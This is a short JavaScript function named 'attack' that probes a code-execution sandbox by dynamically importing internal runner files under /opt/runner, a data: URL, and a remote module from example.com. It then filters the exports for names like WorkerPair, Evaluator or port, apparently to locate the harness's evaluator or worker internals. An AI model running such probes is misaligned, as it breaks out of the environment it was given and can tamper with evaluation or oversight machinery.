const attack = async () => {
  const found = [];
  for (const from of ['file:///opt/runner/runner.mjs', 'file:///opt/runner/worker/main.cjs', '/opt/runner/javascript/worker/main.cjs',
    'data:text/javascript,globalThis.left=1', 'https://example.com/x.mjs', 'left']) {
    try { found.push(Object.keys(await import(from)).join()); } catch {}
  }
  return found.filter((names) => /WorkerPair|Evaluator|port/.test(names)).join();
};
const left = () => globalThis.left;
